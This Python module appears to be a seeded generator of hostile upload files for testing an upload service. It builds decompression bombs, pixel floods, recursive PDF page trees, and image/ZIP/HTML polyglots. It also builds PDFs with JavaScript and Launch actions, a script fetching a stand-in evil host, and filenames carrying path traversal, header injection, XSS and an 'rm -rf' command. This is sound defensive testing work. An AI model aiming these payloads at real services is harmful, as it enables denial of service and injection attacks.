"""敌意文件: a generator of uploads meant to harm; the same seed makes the same files."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import lru_cache

import pikepdf
from PIL import Image, PngImagePlugin

CANARY = "CANARY-E115.98-N36.45"
SCRIPT = b"<html><script>fetch('//evil.example')</script></html>"


@dataclass(frozen=True)
class Hostile:
    """敌意文件: what it is, what it calls itself, and its bytes."""

    family: str
    name: str
    content: bytes


NAMES = (
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\cmd.exe",
    "/etc/shadow",
    "身份证\u202egpj.exe",
    "a\x00.pdf",
    "CON.jpg",
    "nul",
    "名字\r\nSet-Cookie: a=b.pdf",
    '"><script>alert(1)</script>.png',
    "文" * 3000 + ".pdf",
    "....//....//x.png",
    "％2e％2e％2fx.jpg",
    ".htaccess",
    "",
    " . . ",
    "照片.jpg.exe",
    "\u200b\u200e\ufeff",
    "x;rm -rf ~.pdf",
    "C:\\CON\\CON",
    "\ud83d\ude00照片.jpg",
)


def generate(*, seed: int, n: int) -> Iterator[Hostile]:
    """敌意文件: yield so many files, every family in turn."""
    for number in range(n):
        draw = random.Random(f"{seed}:{number}")
        family = FAMILIES[number % len(FAMILIES)]
        yield Hostile(family.__name__.lstrip("_"), draw.choice(NAMES), family(draw))


def _picture(draw: random.Random, size: int = 64) -> Image.Image:
    return Image.frombytes("RGB", (size, size), draw.randbytes(size * size * 3))


def _jpeg(draw: random.Random, **options: object) -> bytes:
    out = io.BytesIO()
    _picture(draw).save(out, "JPEG", **options)
    return out.getvalue()


def _png(draw: random.Random, **options: object) -> bytes:
    out = io.BytesIO()
    _picture(draw).save(out, "PNG", **options)
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png_of(width: int, height: int, *chunks: bytes, bits: int = 1, data: bytes = b"") -> bytes:
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, bits, 0, 0, 0, 0))
    body = _chunk(b"IDAT", data or zlib.compress(b"\0" * 1000))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks) + body + _chunk(b"IEND", b"")


def _zip(draw: random.Random) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("../../evil.sh"), draw.randbytes(64))
    return out.getvalue()


def _pdf(build: Callable[[pikepdf.Pdf], None]) -> bytes:
    document = pikepdf.Pdf.new()
    document.add_blank_page(page_size=(595, 842))
    build(document)
    out = io.BytesIO()
    document.save(out, deterministic_id=True, fix_metadata_version=False)
    return out.getvalue()


def _raw_pdf(objects: list[bytes], *, root: int = 1) -> bytes:
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        root,
        start,
    )
    return bytes(out)


def _page_pdf(contents: bytes, *more: bytes, page: bytes = b"") -> bytes:
    return _raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R " + page + b">>",
            contents,
            *more,
        ]
    )


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(data), extra, data)


@lru_cache(maxsize=4)
def _zeros(megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b"\0" * 1_000_000) for _ in range(megabytes))
    return packed + packer.flush()


# Pictures


def _pixel_flood(draw: random.Random) -> bytes:
    side = draw.choice([20_000, 30_000, 60_000, 2**31 - 1])
    rows = min(side, 30_000)
    return _png_of(side, side, data=zlib.compress(b"\0" * (rows // 8 + 1) * 200))


def _flat_flood(draw: random.Random) -> bytes:
    """39 million pixels are allowed; this one is 4 bytes a pixel when unpacked."""
    out = io.BytesIO()
    Image.new(draw.choice(["L", "1"]), (7800, 5000)).save(out, "PNG")
    return out.getvalue()


def _jpeg_dimensions(draw: random.Random) -> bytes:
    content = bytearray(_jpeg(draw))
    at = content.index(b"\xff\xc0")
    content[at + 5 : at + 9] = struct.pack(">HH", 65_500, 65_500)
    return bytes(content)


def _jpeg_and_zip(draw: random.Random) -> bytes:
    return _jpeg(draw) + _zip(draw)


def _png_and_zip(draw: random.Random) -> bytes:
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", CANARY, zip=draw.random() < 0.5)
    return _png(draw, pnginfo=text) + _zip(draw)


def _jpeg_and_script(draw: random.Random) -> bytes:
    return _jpeg(draw, comment=SCRIPT + CANARY.encode()) + draw.choice([b"", SCRIPT])


def _gif_and_script(draw: random.Random) -> bytes:
    return b"GIF89a/*" + draw.randbytes(20) + b"*/=1;alert(1)//"


def _gps(draw: random.Random) -> bytes:
    exif = Image.Exif()
    exif[0x010E], exif[0x013B], exif[0x0112] = CANARY, CANARY, draw.randrange(0, 12)
    place = exif.get_ifd(0x8825)
    place[1], place[2], place[29] = "N", (36.0, 27.0, 1.5), CANARY
    options = {"exif": exif, "xmp": f"<x:xmpmeta>{CANARY}</x:xmpmeta>".encode()}
    return _jpeg(draw, **options) if draw.random() < 0.6 else _png(draw, exif=exif)


def _chunk_bomb(draw: random.Random) -> bytes:
    packed = b"Comment\0\0" + _zeros(100)
    kind = draw.choice([b"zTXt", b"iCCP"])
    return _png_of(64, 64, _chunk(kind, packed), data=zlib.compress(b"\0" * 64 * 9))


def _idat_bomb(draw: random.Random) -> bytes:
    return _png_of(64, 64, data=_zeros(draw.choice([50, 100])))


def _animated_png(draw: random.Random) -> bytes:
    frames = b"".join(
        _chunk(b"fcTL", struct.pack(">IIIIIHHBB", n, 1, 1, 0, 0, 1, 100, 0, 0)) for n in range(5000)
    )
    control = _chunk(b"acTL", struct.pack(">II", 100_000, 0))
    return _png_of(64, 64, control, frames, data=zlib.compress(b"\0" * 64 * 9))


@lru_cache(maxsize=1)
def _many_frames() -> bytes:
    frame = b"\x21\xf9\x04\0\0\0\0\0,\0\0\0\0\1\0\1\0\0\x02\x02D\x01\0"
    return b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff" + frame * 100_000 + b";"


def _gif_frames(draw: random.Random) -> bytes:
    return _many_frames()


def _scan_bomb(draw: random.Random) -> bytes:
    """A progressive picture whose last scan is repeated thousands of times."""
    out = io.BytesIO()
    Image.new("L", (4000, 4000)).save(out, "JPEG", progressive=True)
    content = out.getvalue()
    last = content.rindex(b"\xff\xda")
    return content[:-2] + content[last:-2] * draw.choice([100, 400]) + content[-2:]


def _segment_bomb(draw: random.Random) -> bytes:
    content = _jpeg(draw)
    return content[:2] + b"\xff\xe1\0\x12Exif\0\0MM\0*\0\0\0\x08\0\0" * 100_000 + content[2:]


# Documents


def _scripted(draw: random.Random) -> bytes:
    name, dictionary = pikepdf.Name, pikepdf.Dictionary

    def build(document: pikepdf.Pdf) -> None:
        kind = draw.choice(["JavaScript", "Launch", "URI", "SubmitForm", "GoToR", "ImportData"])
        action = dictionary(S=name("/" + kind), JS="app.alert(1)", URI="http://evil", F="cmd.exe")
        document.Root.OpenAction = action
        document.Root.AA = dictionary(WC=action)
        document.Root.Names = dictionary(JavaScript=dictionary(Names=["x", action]))
        document.Root.AcroForm = dictionary(XFA=document.make_stream(SCRIPT), Fields=[])
        note = dictionary(Type=name.Annot, Subtype=name.Link, Rect=[0, 0, 99, 99], A=action)
        page = document.pages[0].obj
        page.Annots = document.make_indirect(pikepdf.Array([note]))
        page.AA = dictionary(O=action)
        page.Resources = dictionary(XObject=dictionary(X=_form(document, action)))
        inside = dictionary(F=document.make_stream(draw.randbytes(99)))
        evil = dictionary(Type=name.Filespec, F="evil.exe", EF=inside)
        document.Root.Names.EmbeddedFiles = dictionary(Names=["evil.exe", evil])
        document.docinfo["/Author"] = CANARY
        document.Root.Metadata = document.make_stream(CANARY.encode())

    return _pdf(build)


def _form(document: pikepdf.Pdf, action: pikepdf.Object) -> pikepdf.Object:
    form = document.make_stream(b"0 0 m", {"/Subtype": pikepdf.Name.Form, "/BBox": [0, 0, 9, 9]})
    form.AA, form.PieceInfo, form.Metadata = action, action, document.make_stream(CANARY.encode())
    form.OPI = pikepdf.Dictionary(JS="x")
    return form


def _escaped_names(draw: random.Random) -> bytes:
    action = b"/Open#41ction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"
    return _page_pdf(_stream(b"q Q")).replace(b"/Type /Catalog", b"/Type /Catalog " + action)


def _pdf_and_html(draw: random.Random) -> bytes:
    content = _pdf(lambda document: None)
    return content + SCRIPT if draw.random() < 0.5 else content[:9] + b"%" + SCRIPT + content[9:]


def _pdf_and_zip(draw: random.Random) -> bytes:
    hidden = _zip(draw)
    if draw.random() < 0.5:
        return _pdf(lambda document: None) + hidden
    return _page_pdf(_stream(b"q Q"), _stream(hidden + SCRIPT), page=b"/Resources 5 0 R ")


def _zip_as_picture(draw: random.Random) -> bytes:
    """A stored picture whose bytes are an archive; its filter is one we do not open."""
    kind = draw.choice([b"CCITTFaxDecode", b"JBIG2Decode", b"JPXDecode", b"DCTDecode"])
    picture = b"/Type /XObject /Subtype /Image /Width 9 /Height 9 /Filter /" + kind
    resources = b"/Resources << /XObject << /X 5 0 R >> >> "
    return _page_pdf(_stream(b"/X Do"), _stream(_zip(draw), picture), page=resources)


def _photo_with_place(draw: random.Random) -> bytes:
    exif = Image.Exif()
    exif[0x010E] = CANARY
    photo = _jpeg(draw, exif=exif, comment=CANARY.encode()) + _zip(draw)
    picture = b"/Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceRGB "
    picture += b"/BitsPerComponent 8 /Filter /DCTDecode "
    resources = b"/Resources << /XObject << /X 5 0 R >> >> "
    return _page_pdf(_stream(b"/X Do"), _stream(photo, picture), page=resources)


def _stream_bomb(draw: random.Random) -> bytes:
    packed = _zeros(draw.choice([100, 500]))
    filters = b"/Filter /FlateDecode "
    if draw.random() < 0.6:
        packed, filters = zlib.compress(packed, 9), b"/Filter [/FlateDecode /FlateDecode] "
    return _page_pdf(_stream(packed, filters))


def _picture_bomb(draw: random.Random) -> bytes:
    picture = b"/Type /XObject /Subtype /Image /Width %d /Height 99999 " % draw.randrange(10**6)
    picture += b"/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode "
    resources = b"/Resources << /XObject << /X 5 0 R >> >> "
    return _page_pdf(_stream(b"/X Do"), _stream(_zeros(100), picture), page=resources)


def _deep_document(draw: random.Random) -> bytes:
    depth = draw.choice([200, 490, 20_000, 400_000])
    opening, closing = draw.choice([(b"[", b"]"), (b"<</A ", b">>")])
    value = opening * depth + b"1" + closing * depth
    return _page_pdf(_stream(b"q Q"), page=b"/Resources " + value + b" ")


def _page_loop(draw: random.Random) -> bytes:
    kids = draw.choice([b"[2 0 R]", b"[2 0 R 2 0 R 2 0 R]", b"[3 0 R 2 0 R]"])
    return _raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Parent 2 0 R /Count 9 /Kids " + kids + b" >>",
            b"<< /Type /Page /Parent 3 0 R >>",
        ]
    )


def _page_tree_bomb(draw: random.Random) -> bytes:
    """Each node names the next one ten times: 10 to the 25th pages in a few lines."""
    nodes = [
        b"<< /Type /Pages /Count 99 /Kids [" + b"%d 0 R " % (number + 1) * 10 + b"] >>"
        for number in range(2, 27)
    ]
    return _raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", *nodes, b"<< /Type /Page >>"])


def _many_pages(draw: random.Random) -> bytes:
    count = draw.choice([31, 500, 20_000])
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(count))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    pages = b"<< /Type /Pages /Count %d /Kids [%s] >>" % (count, kids)
    return _raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", pages, *([page] * count)])


def _many_objects(draw: random.Random) -> bytes:
    filler = [b"<< /A %d 0 R >>" % (number + 6) for number in range(draw.choice([60_000, 200_000]))]
    return _page_pdf(_stream(b"q Q"), *filler, page=b"/Resources << /P 5 0 R >> ")


def _locked(draw: random.Random) -> bytes:
    document = pikepdf.Pdf.new()
    document.add_blank_page()
    out = io.BytesIO()
    document.save(out, encryption=pikepdf.Encryption(owner="o", user=draw.choice(["u", ""])))
    return out.getvalue()


# Everything else


def _other_kind(draw: random.Random) -> bytes:
    eicar = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    return draw.choice(
        [
            b"",
            b"MZ" + draw.randbytes(200),
            b"\x7fELF" + draw.randbytes(200),
            b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
            SCRIPT,
            eicar,
            _zip(draw),
            b"\xd0\xcf\x11\xe0" + draw.randbytes(500),
            b"RIFF\0\0\0\0WEBPVP8 " + draw.randbytes(50),
            b"\0\0\0\x0cjP  \r\n\x87\n" + draw.randbytes(90),
            b"\0\0\0\x18ftypheic" + draw.randbytes(90),
            b"II*\0" + draw.randbytes(90),
            b"%!PS-Adobe\n(/etc/passwd) (r) file",
            b"Rar!\x1a\x07" + draw.randbytes(90),
            b"\0" * (21 * 1024 * 1024),
        ]
    )


def _lying_head(draw: random.Random) -> bytes:
    head = draw.choice([b"\xff\xd8\xff\xe0", b"\x89PNG\r\n\x1a\n", b"%PDF-1.7\n"])
    return head + draw.choice([SCRIPT, _zip(draw), draw.randbytes(5000), b"\xff" * 100_000])


def _cut(draw: random.Random) -> bytes:
    content = _sound(draw)
    return content[: draw.randrange(1, len(content))]


def _flipped(draw: random.Random) -> bytes:
    content = bytearray(_sound(draw))
    for _ in range(draw.choice([1, 5, 50])):
        content[draw.randrange(len(content))] = draw.randrange(256)
    return bytes(content)


def _sound(draw: random.Random) -> bytes:
    return draw.choice([_jpeg, _png, _scripted, _photo_with_place])(draw)


FAMILIES: tuple[Callable[[random.Random], bytes], ...] = (
    _pixel_flood,
    _flat_flood,
    _jpeg_dimensions,
    _jpeg_and_zip,
    _png_and_zip,
    _jpeg_and_script,
    _gif_and_script,
    _gps,
    _chunk_bomb,
    _idat_bomb,
    _animated_png,
    _gif_frames,
    _scan_bomb,
    _segment_bomb,
    _scripted,
    _escaped_names,
    _pdf_and_html,
    _pdf_and_zip,
    _zip_as_picture,
    _photo_with_place,
    _stream_bomb,
    _picture_bomb,
    _deep_document,
    _page_loop,
    _page_tree_bomb,
    _many_pages,
    _many_objects,
    _locked,
    _other_kind,
    _lying_head,
    _cut,
    _flipped,
)
